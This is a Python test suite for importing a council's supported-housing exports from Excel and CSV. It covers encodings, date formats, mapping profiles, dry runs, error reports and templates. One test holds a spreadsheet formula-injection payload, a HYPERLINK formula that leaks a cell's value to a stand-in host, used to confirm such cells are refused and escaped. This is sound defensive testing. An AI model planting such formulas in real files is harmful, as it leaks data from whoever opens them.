"""A council's own exports, as its SP team has them: Excel workbooks and CSV in any of the
encodings Excel writes, through a mapping profile, checked before anything is written, with every
problem in a report that opens in Excel, and templates that import as they are filled in.

The files come from tests/node/council_exports.py: headers as an SP system writes them, text client
groups, dd/mm dates, district names.
"""

from __future__ import annotations

import csv
import hashlib
import secrets
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import text
from sqlalchemy.engine import Engine

from node.client_records import PersonSealer
from node.imports.check import check_import, linkable_by_provider, write_error_report
from node.imports.mapping import Translator, load_profile
from node.imports.reading import Source
from node.imports.supply import MAX_UNITS, import_csv
from node.imports.template import write_template
from node.store import ensure_authority, open_store
from shared.authorities import shipped_register
from shared.errors import ImportError_
from tests.node import council_exports as exports

KENT = exports.KENT
TODAY = date(2010, 6, 30)
TABLES = ("provider", "service", "contract", "client_record", "outcome")


@pytest.fixture
def engine(database_url: str) -> Iterator[Engine]:
    engine = open_store(database_url)
    ensure_authority(engine, authority_code=KENT)
    try:
        yield engine
    finally:
        engine.dispose()


@pytest.fixture
def sealer() -> PersonSealer:
    return PersonSealer(secrets.token_bytes(64))


@pytest.fixture
def profile(tmp_path: Path) -> Translator:
    path = tmp_path / "kent-sp.toml"
    path.write_text(exports.PROFILE, encoding="utf-8")
    return Translator(load_profile(path), register=shipped_register(), today=TODAY)


def fingerprint(engine: Engine) -> str:
    """Every row of every table an import writes, hashed: equal only if nothing changed."""
    digest = hashlib.sha256()
    with engine.connect() as conn:
        for table in TABLES:
            for row in conn.execute(text(f"SELECT * FROM {table} ORDER BY id")):
                digest.update(repr(tuple(row)).encode())
    return digest.hexdigest()


def stored(engine: Engine, query: str) -> list[tuple[object, ...]]:
    with engine.connect() as conn:
        return [tuple(r) for r in conn.execute(text(query))]


def load_supply(engine: Engine, tmp_path: Path, translator: Translator, *, fmt: str = "xlsx") -> None:
    for kind, export in (
        ("providers", exports.providers()),
        ("services", exports.services()),
        ("contracts", exports.contracts()),
    ):
        path = getattr(export, fmt)(tmp_path / f"{kind}.{fmt}")
        import_csv(engine, kind=kind, path=path, translator=translator)  # type: ignore[arg-type]


# --- Excel and CSV alike ----------------------------------------------------------------------


def test_a_workbook_and_its_csv_export_store_the_same_rows(engine: Engine, tmp_path: Path, profile: Translator) -> None:
    load_supply(engine, tmp_path, profile, fmt="xlsx")
    services = stored(engine, "SELECT service_ref, district_code, service_type, client_group, units, unit_type, "
                      "designated, term FROM service ORDER BY service_ref")  # fmt: skip
    before = fingerprint(engine)
    # The same exports saved as CSV (dd/mm/yyyy dates, text numbers) change nothing: every row is the same.
    for kind, export in (
        ("providers", exports.providers()),
        ("services", exports.services()),
        ("contracts", exports.contracts()),
    ):
        summary = import_csv(engine, kind=kind, path=export.csv(tmp_path / f"{kind}.csv"), translator=profile)  # type: ignore[arg-type]
        assert (summary.rows, summary.unchanged) == (len(export.rows), len(export.rows))
    assert fingerprint(engine) == before
    # Sheltered housing through the profile, text client groups, district names, Y/N, "Long term":
    assert services[0][1:] == ("E07000105", "accommodation-based", 1, 25, "bed-spaces", False, "long")
    assert {row[3] for row in services} <= {1, 3, 4, 7, 12, 14}


def test_each_csv_encoding_is_read_and_said(engine: Engine, tmp_path: Path, profile: Translator) -> None:
    export = exports.providers()
    export.rows[2][1] = "Café Crèche Trust"
    notes = {}
    for encoding in ("utf-8", "utf-8-sig", "cp1252"):
        sources: list[Source] = []
        path = export.csv(tmp_path / f"providers-{encoding}.csv", encoding=encoding)
        import_csv(engine, kind="providers", path=path, translator=profile, source=sources)
        notes[encoding] = sources[0].encoding_note
        assert ("KCC-P0003", "Café Crèche Trust") in stored(engine, "SELECT provider_ref, name FROM provider")
    assert notes["utf-8"] == "read as UTF-8"
    assert notes["utf-8-sig"] == "read as UTF-8 (the file starts with a byte order mark)"
    assert notes["cp1252"].startswith("read as Windows-1252: the file is not UTF-8 (byte 0xE9 at byte offset")


def test_the_first_sheet_is_read_unless_another_is_named(engine: Engine, tmp_path: Path, profile: Translator) -> None:
    path = exports.providers().xlsx(tmp_path / "providers.xlsx", before=("Cover",))
    before = fingerprint(engine)
    with pytest.raises(ImportError_) as caught:
        import_csv(engine, kind="providers", path=path, translator=profile)
    [problem] = caught.value.problems
    assert (problem.sheet, problem.row) == ("Cover", 1)
    assert problem.reason.startswith("this is not the header of a providers file")
    assert problem.fix == "Choose the sheet with --sheet (the workbook also has: Export)"
    assert fingerprint(engine) == before

    with pytest.raises(ImportError_) as caught:
        import_csv(engine, kind="providers", path=path, translator=profile, sheet="Providers")
    assert caught.value.problems[0].reason == "no worksheet named 'Providers'; the workbook has: Cover, Export"

    assert import_csv(engine, kind="providers", path=path, translator=profile, sheet="Export").inserted == 6


def test_formulas_are_read_as_their_cached_values(engine: Engine, tmp_path: Path, profile: Translator) -> None:
    load_supply(engine, tmp_path, profile)
    export = exports.services()
    export.rows[0][6] = "=12*2"  # units worked out in the sheet
    path = exports.with_cached_values(export.xlsx(tmp_path / "services-2.xlsx"), {"12*2": "24"})
    summary = import_csv(engine, kind="services", path=path, translator=profile)
    assert summary.updated == 1
    assert stored(engine, "SELECT units FROM service WHERE service_ref = 'KCC-S00001'") == [(24,)]


def test_formula_like_text_is_refused_by_cell_and_escaped_in_the_report(
    engine: Engine, tmp_path: Path, profile: Translator
) -> None:
    attack = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'
    export = exports.providers()
    export.rows[1][1] = attack
    export.rows[3][1] = "@SUM(A1:A9)"
    export.rows[4][1] = "-"  # a lone dash is how some systems write "none": not a formula
    check = check_import(engine, kind="providers", path=export.csv(tmp_path / "p.csv"), translator=profile)
    assert [(p.row, p.column, p.value) for p in check.problems] == [(3, "name", attack), (5, "name", "@SUM(A1:A9)")]
    assert "a spreadsheet would run it as a formula" in check.problems[0].reason

    report = tmp_path / "errors.csv"
    write_error_report(check.problems, report)
    assert report.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    with report.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["file", "sheet", "row", "column", "value", "reason", "fix"]
    assert rows[1][4] == "'" + attack  # shown as text, never run
    assert rows[1][6].startswith("Write the value itself")


def test_every_problem_of_a_row_is_told_and_nothing_is_written(
    engine: Engine, tmp_path: Path, profile: Translator, sealer: PersonSealer
) -> None:
    """A row with several mistakes shows each (file, row, column), not its first alone: a
    formula-like cell and the row's other cells; a value the profile cannot read and the others."""
    load_supply(engine, tmp_path, profile)
    services = exports.services()
    services.rows[2][2] = '=HYPERLINK("http://example.org")'  # formula-like text, read as text from CSV
    services.rows[2][6] = 10**19  # a 20-digit units
    services.rows[5][5] = "Astronauts"  # a client group the profile does not know
    services.rows[5][6] = -3
    before = stored(engine, "SELECT service_ref, units FROM service ORDER BY service_ref")
    check = check_import(engine, kind="services", path=services.csv(tmp_path / "s.csv"), translator=profile)
    assert [(p.file, p.row, p.column) for p in check.problems] == [
        ("s.csv", 4, "name"),
        ("s.csv", 4, "units"),
        ("s.csv", 7, "client_group"),
        ("s.csv", 7, "units"),
    ]
    assert all(r["row"] not in (4, 7) for r in check.preview)  # a row with a problem is not previewed

    records = exports.client_records(n=20)
    records.rows[3][11] = "+44 7700 900123"  # a surname a spreadsheet would run as a formula
    records.rows[3][2] = "31/02/2009"  # no such day
    records.rows[3][4] = "two hundred"
    check = check_import(
        engine,
        kind="client-records",
        path=records.csv(tmp_path / "r.csv"),
        sealer=sealer,
        translator=profile,
        today=TODAY,
        dry_run=False,
    )
    assert sorted((p.row or 0, p.column or "") for p in check.problems) == [
        (5, "age_band"),
        (5, "start_date"),
        (5, "surname"),
    ]
    assert all(p.file == "r.csv" for p in check.problems)
    assert stored(engine, "SELECT count(*) FROM client_record") == [(0,)]  # all or nothing, as before
    assert stored(engine, "SELECT service_ref, units FROM service ORDER BY service_ref") == before


# --- mapping profiles -------------------------------------------------------------------------


def test_client_records_as_a_council_exports_them(
    engine: Engine, tmp_path: Path, profile: Translator, sealer: PersonSealer
) -> None:
    load_supply(engine, tmp_path, profile)
    export = exports.client_records(n=300)
    path = export.xlsx(tmp_path / "records.xlsx")
    check = check_import(
        engine, kind="client-records", path=path, sealer=sealer, translator=profile, today=TODAY, dry_run=False
    )
    assert check.ok, check.problems[:3]
    rows = stored(
        engine,
        "SELECT record_ref, start_date, client_group, age_band, sex, ethnicity, economic_status, referral_source, "
        "previous_authority, person IS NULL FROM client_record ORDER BY record_ref",
    )
    assert len(rows) == 300
    source = {row[0]: row for row in export.rows}
    for ref, start, group, age, sex, ethnicity, economic, referral, previous, unlinked in rows:
        row = source[ref]
        assert str(start)[:10] == row[2].isoformat()
        assert (group, sex) == ({"Older people with support needs": 1, "Single homeless with support needs": 7,
                                 "Women at risk of domestic violence": 14, "People with mental health problems": 4}
                                [row[3]], {"F": "female", "M": "male"}[row[5]])  # fmt: skip
        low, _, high = age.rstrip("+").partition("-")
        assert int(low) <= row[4] <= (int(high) if high else 200)
        assert previous == {"Maidstone": "E07000110", "Medway": "E06000035", "Canterbury": "E07000106",
                            "E09000022": "E09000022", "": None, "unknown": None,
                            "Brighton & Hove": "E06000043"}[row[10]]  # fmt: skip
        assert unlinked == (row[11] is None or row[13] is None)
        assert referral in ("self", "housing-department", "probation", "social-services")
        assert ethnicity in "ABHN" and economic
    # The share each provider's returns can be linked, counted from the store.
    shares = linkable_by_provider(engine)
    assert sum(n for *_, n, _ in shares) == 300
    assert sum(linked for *_, linked in shares) == sum(1 for r in export.rows if r[11] and r[13])


def test_a_profile_that_names_an_unknown_format_or_key_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "bad.toml"
    path.write_text('date_formats = ["dd/mm/yyyy", "mm/dd/yyyy", "yyyymmdd"]\ncolums = {}\n', encoding="utf-8")
    with pytest.raises(ImportError_) as caught:
        load_profile(path)
    reasons = [(p.column, p.reason) for p in caught.value.problems]
    assert reasons[0] == ("colums", "unknown key; a profile has columns, date_formats, ignore, source, values")
    assert any("'yyyymmdd' is not a date format cagnet reads" in r for _, r in reasons)
    assert any("would read 01/04/2010 two ways" in r for _, r in reasons)


def test_dates_in_each_format_a_profile_names(engine: Engine, tmp_path: Path) -> None:
    translator = Translator(today=TODAY)
    read = translator.for_column("start_date")
    assert read is not None
    assert [read(v) for v in ("2010-04-01", "01/04/2010", "1/4/2010", "1-Apr-10", "1 April 2010", "40269")] == [
        "2010-04-01"
    ] * 6
    assert read("1-Apr-59") == "1959-04-01"  # two-digit years never in the future
    with pytest.raises(ValueError, match="not a real date: '31/02/2010'"):
        read("31/02/2010")


# --- check before writing ---------------------------------------------------------------------


def test_a_dry_run_writes_nothing_and_counts_what_an_import_would_do(
    engine: Engine, tmp_path: Path, profile: Translator
) -> None:
    load_supply(engine, tmp_path, profile)
    export = exports.services(n=14)
    export.rows[0][6] = 99  # one changed
    before = fingerprint(engine)
    check = check_import(engine, kind="services", path=export.xlsx(tmp_path / "s.xlsx"), translator=profile)
    assert check.ok and fingerprint(engine) == before
    assert check.summary is not None
    assert (check.summary.inserted, check.summary.updated, check.summary.unchanged) == (2, 1, 11)
    assert check.preview[0]["row"] == 2 and check.preview[0]["units"] == 99
    assert check.preview[0]["provider_ref"] == "KCC-P0001"  # a reference, not the store's id
    assert check.distinct["service_type"].stored["Sheltered Housing"] == "accommodation-based"
    assert check.distinct["designated"].counts["Y"] == sum(1 for r in export.rows if r[9] == "Y")

    real = check_import(
        engine, kind="services", path=export.xlsx(tmp_path / "s.xlsx"), translator=profile, dry_run=False
    )
    assert real.summary == check.summary and fingerprint(engine) != before


def test_every_problem_is_reported_with_place_value_and_fix(
    engine: Engine, tmp_path: Path, profile: Translator
) -> None:
    load_supply(engine, tmp_path, profile)
    export = exports.services(n=40)
    export.rows[3][6] = 10**20  # 20 digits: once an OverflowError at insert
    export.rows[5][4] = "Supported Lodgings"
    export.rows[7][3] = "Hastings"  # East Sussex, not Kent
    export.rows[9][6] = MAX_UNITS + 1
    export.rows[30][5] = "Older people"
    before = fingerprint(engine)
    check = check_import(
        engine, kind="services", path=export.xlsx(tmp_path / "s.xlsx"), translator=profile, dry_run=False
    )
    assert fingerprint(engine) == before  # a real import with a bad row writes nothing
    found = [(p.sheet, p.row, p.column, p.value) for p in check.problems]
    assert found == [
        ("Export", 5, "units", str(10**20)),
        ("Export", 7, "service_type", "Supported Lodgings"),
        ("Export", 9, "district", "Hastings"),
        ("Export", 11, "units", str(MAX_UNITS + 1)),
        ("Export", 32, "client_group", "Older people"),
    ]
    assert check.problems[0].reason.startswith("a number of 21 digits is far too large")
    assert check.problems[3].reason == f"{MAX_UNITS + 1:,} units is more than any service has (at most {MAX_UNITS:,})"
    report = tmp_path / "errors.csv"
    write_error_report(check.problems, report)
    with report.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["row"] for r in rows] == ["5", "7", "9", "11", "32"]
    assert rows[1]["fix"].startswith("Use one of: accommodation-based")
    assert rows[2]["fix"].startswith("Use one of: Ashford, Canterbury")


# --- templates ---------------------------------------------------------------------------------


def test_a_filled_in_template_imports_as_it_is(engine: Engine, tmp_path: Path) -> None:
    register = shipped_register()
    path = tmp_path / "services.xlsx"
    write_template("providers", tmp_path / "providers.xlsx", authority=register.authority(KENT), register=register)
    write_template("services", path, authority=register.authority(KENT), register=register)

    book = openpyxl.load_workbook(path)  # as a person's spreadsheet opens it
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["service_ref", "provider_ref", "name", "district"]
    assert str(sheet["A2"].value).startswith("required:")
    lists = {str(dv.sqref)[0]: dv.formula1 for dv in sheet.data_validations.dataValidation}
    district = book["Lists"]
    assert [district.cell(row=r, column=1).value for r in range(2, 5)] == ["Ashford", "Canterbury", "Dartford"]
    assert lists["D"] == "'Lists'!$A$2:$A$13"  # Kent's 12 districts
    groups = [book["Lists"].cell(row=r, column=5).value for r in range(2, 23)]
    assert groups[0] == "Older people with support needs" and len(set(groups)) == 21

    providers = openpyxl.load_workbook(tmp_path / "providers.xlsx")
    providers.worksheets[0].append(["KCC-P0001", "Porchlight", None, "254109", None])
    providers.save(tmp_path / "providers.xlsx")
    sheet.append(["KCC-S1", "KCC-P0001", "Fairfield House", "Canterbury", "accommodation-based",
                  "Single homeless with support needs", 24, "bed-spaces", None, "no", "short"])  # fmt: skip
    book.save(path)
    import_csv(engine, kind="providers", path=tmp_path / "providers.xlsx")
    summary = import_csv(engine, kind="services", path=path)
    assert summary.inserted == 1
    assert stored(engine, "SELECT district_code, client_group FROM service") == [("E07000106", 7)]


def test_excel_dates_and_numbers_become_the_text_a_csv_holds(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["contract_ref", "service_ref", "annual_value", "start_date", "end_date"])
    sheet.append(["C1", "S1", 1250.5, datetime(2010, 4, 1), date(2013, 3, 31)])
    sheet.append([None, None, None, None, None, None, None])
    book.save(tmp_path / "c.xlsx")
    from node.imports.supply import COLUMNS

    source = Source(tmp_path / "c.xlsx", COLUMNS["contracts"], [])
    assert list(source.rows()) == [(2, ["C1", "S1", "1250.5", "2010-04-01", "2013-03-31"])]
